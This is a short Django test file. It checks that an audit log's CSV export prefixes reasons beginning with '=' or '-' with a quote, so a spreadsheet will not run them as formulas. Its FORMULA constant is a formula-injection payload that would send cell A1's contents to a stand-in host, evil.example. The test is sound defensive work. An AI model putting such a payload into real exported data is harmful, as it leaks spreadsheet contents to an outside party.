"""The audit log's CSV export neutralises a reason a spreadsheet would run as a formula."""

import csv
import io

from django.urls import reverse

from tests.rubrics.conftest import edit

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_reason_starting_with_an_equals_sign_is_exported_with_a_leading_quote(cast, client_for, criterion):
    edit(cast, criterion, weight=4, reason=FORMULA)
    edit(cast, criterion, weight=2, reason="-1+1", base_revision=2)
    response = client_for(cast.admin).get(reverse("rubrics:audit"), {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    reasons = {row["reason"] for row in rows}
    assert "'" + FORMULA in reasons and "'-1+1" in reasons
    assert FORMULA not in reasons
